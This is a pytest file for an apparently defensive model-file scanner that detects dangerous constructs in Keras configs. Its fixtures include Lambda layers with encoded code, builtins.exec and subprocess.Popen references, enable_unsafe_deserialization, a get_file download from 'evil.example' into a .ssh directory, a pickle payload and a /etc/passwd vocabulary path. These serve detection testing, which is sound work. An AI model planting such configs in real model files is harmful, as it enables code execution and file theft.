"""Keras configs in .keras zips, .h5 files and bare JSON: t36-t41, benign #11."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from typing import Any

import pytest

from modelcrate.scan.config_scan import scan_json
from modelcrate.scan.context import ScanContext
from modelcrate.scan.findings import Finding, Location, Severity
from modelcrate.scan.keras_scan import extract_h5_configs, scan_h5, scan_keras_config

Json = dict[str, Any]


def layer(cls: str, name: str, **config: Any) -> Json:
    return {
        "module": "keras.layers",
        "class_name": cls,
        "config": {"name": name, **config},
        "registered_name": None,
    }


def dense(name: str = "dense", **extra: Any) -> Json:
    init = {
        "module": "keras.initializers",
        "class_name": "GlorotUniform",
        "config": {"seed": None},
        "registered_name": None,
    }
    return layer(
        "Dense", name, **{"units": 4, "activation": "relu", "kernel_initializer": init, **extra}
    )


def model(*layers: Json, cls: str = "Sequential") -> Json:
    dtype = {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": cls,
        "config": {"name": "m", "dtype": dtype, "layers": list(layers)},
        "registered_name": None,
    }


LAMBDA = layer(
    "Lambda",
    "evil",
    function={"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None}},
)


def keras_zip(config: Json) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"")
    return buf.getvalue()


def scan_config(config: Json) -> list[Finding]:
    """Scan a config the way it arrives from a .keras zip: config.json through scan_json."""
    raw = zipfile.ZipFile(io.BytesIO(keras_zip(config))).read("config.json")
    ctx = ScanContext()
    assert scan_json(raw, Location("model.keras").child("config.json"), ctx, 1) == "keras-config"
    return ctx.findings


def h5_with_config(config: Json, *, fixed: bool = False) -> bytes:
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        text = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["model_config"] = np.bytes_(text.encode()) if fixed else text
        f.create_group("model_weights").create_dataset("w", data=np.zeros(4, dtype="f4"))
    return buf.getvalue()


def rules(findings: list[Finding]) -> list[tuple[str, Severity]]:
    return [(f.rule_id, f.severity) for f in findings]


def test_t36_keras_nested_lambda_in_keras_zip() -> None:
    inner = model(
        dense(),
        {
            "module": "keras.layers",
            "class_name": "TimeDistributed",
            "config": {"name": "td", "layer": LAMBDA},
        },
    )
    bidi = layer("Bidirectional", "bi", layer=layer("LSTM", "lstm", units=2))
    config = model(dense("d0"), bidi, inner, cls="Functional")
    found = scan_config(config)
    assert rules(found) == [("keras.lambda", Severity.CRITICAL)]
    assert "config.layers[2].config.layers[1].config.layer" in found[0].message


@pytest.mark.parametrize("fixed", [False, True])
def test_t36_keras_lambda_in_h5(fixed: bool) -> None:
    keras2_lambda = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": ["YWJj", None, None], "function_type": "lambda"},
    }
    config = {
        "class_name": "Sequential",
        "config": {
            "layers": [
                {"class_name": "Dense", "config": {"units": 1}},
                {"class_name": "Sequential", "config": {"layers": [keras2_lambda]}},
            ]
        },
    }
    ctx = ScanContext()
    assert scan_h5(h5_with_config(config, fixed=fixed), Location("m.h5"), ctx, 0) == "keras-h5"
    assert rules(ctx.findings) == [("keras.lambda", Severity.CRITICAL)]


def test_h5_config_extraction_agrees_with_h5py() -> None:
    config = model(dense())
    docs = extract_h5_configs(h5_with_config(config), 1 << 20)
    assert [d for _, d in docs] == [config]


def test_t37_keras_module_reference() -> None:
    evil_init = {
        "module": "builtins",
        "class_name": "exec",
        "config": {"source": "import os"},
        "registered_name": None,
    }
    found = scan_config(model(dense(kernel_regularizer=evil_init)))
    assert rules(found) == [("keras.module-reference", Severity.CRITICAL)]
    assert found[0].symbol == "builtins.exec"
    dotted = {"class_name": "subprocess.Popen", "config": {}}
    unknown = {"module": "some_pkg.helpers", "class_name": "load", "config": {}}
    found = scan_config(model(dense(bias_constraint=dotted, activity_regularizer=unknown)))
    assert sorted(rules(found)) == [
        ("keras.module-reference", Severity.HIGH),
        ("keras.module-reference", Severity.CRITICAL),
    ]


def test_t38_keras_enable_unsafe_deserialization() -> None:
    call = {
        "module": "keras.config",
        "class_name": "enable_unsafe_deserialization",
        "config": {},
        "registered_name": None,
    }
    found = scan_config(model(dense(kernel_constraint=call), LAMBDA))
    assert sorted(rules(found)) == [
        ("keras.lambda", Severity.CRITICAL),
        ("keras.unsafe-config", Severity.CRITICAL),
    ]
    as_string = dense(activation="keras.config.enable_unsafe_deserialization")
    found = scan_config(model(as_string))
    assert rules(found) == [("keras.unsafe-config", Severity.CRITICAL)]


def test_t39_keras_get_file() -> None:
    call = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"origin": "https://evil.example/x", "cache_dir": "/home/u/.ssh"},
        "registered_name": None,
    }
    found = scan_config(model(dense(kernel_initializer=call)))
    assert rules(found) == [("keras.unsafe-config", Severity.CRITICAL)]
    assert found[0].symbol == "keras.utils.get_file"


def test_t40_keras_torch_module_wrapper(monkeypatch: pytest.MonkeyPatch) -> None:
    payload = b"\x80\x04\x95 fake torch pickle bytes"
    wrapper = layer("TorchModuleWrapper", "tmw", module=base64.b64encode(payload).decode())
    raw = json.dumps(model(wrapper)).encode()
    ctx = ScanContext()
    nested: list[tuple[bytes, Location]] = []

    def fake_scan_blob(
        data: bytes, loc: Location, depth: int, *, name: str = "", read_as: str | None = None
    ) -> str:
        nested.append((data, loc))
        assert read_as == "pickle"  # torch.load reads a non-zip module as a pickle
        return "pickle"

    monkeypatch.setattr(ctx, "scan_blob", fake_scan_blob)
    scan_keras_config(raw, Location("m.keras").child("config.json"), ctx, 1)
    assert rules(ctx.findings) == [("keras.torch-module", Severity.HIGH)]
    assert [d for d, _ in nested] == [payload]  # the stored module goes to the pickle scanner
    assert nested[0][1].members[-1].endswith(".module")


def test_t41_keras_vocabulary_path() -> None:
    lookup = layer("StringLookup", "lookup", vocabulary="/etc/passwd", num_oov_indices=1)
    inline = layer("StringLookup", "ok", vocabulary=["a", "b"])
    found = scan_config(model(lookup, inline))
    assert rules(found) == [("keras.vocabulary-path", Severity.HIGH)]
    assert found[0].symbol == "/etc/passwd"


def test_benign_keras_dense_and_registered_custom_object() -> None:
    assert scan_config(model(dense("a"), dense("b"), layer("Dropout", "dr", rate=0.1))) == []
    custom = {
        "module": "my_project.layers",
        "class_name": "Gate",
        "config": {"name": "g"},
        "registered_name": "my_project>Gate",
    }
    found = scan_config(model(dense(), custom))
    assert rules(found) == [("keras.custom-object", Severity.MEDIUM)]
    ctx = ScanContext()
    assert scan_h5(h5_with_config(model(dense())), Location("m.h5"), ctx, 0) == "keras-h5"
    assert ctx.findings == []


def test_h5_without_config_and_malformed_config() -> None:
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_dataset("w", data=np.zeros(8, dtype="f4"))
    ctx = ScanContext()
    assert scan_h5(buf.getvalue(), Location("weights.h5"), ctx, 0) == "hdf5"
    assert ctx.findings == []
    ctx = ScanContext()
    scan_keras_config(b"{not json", Location("m.keras").child("config.json"), ctx, 1)
    assert rules(ctx.findings) == [("keras.malformed", Severity.HIGH)]
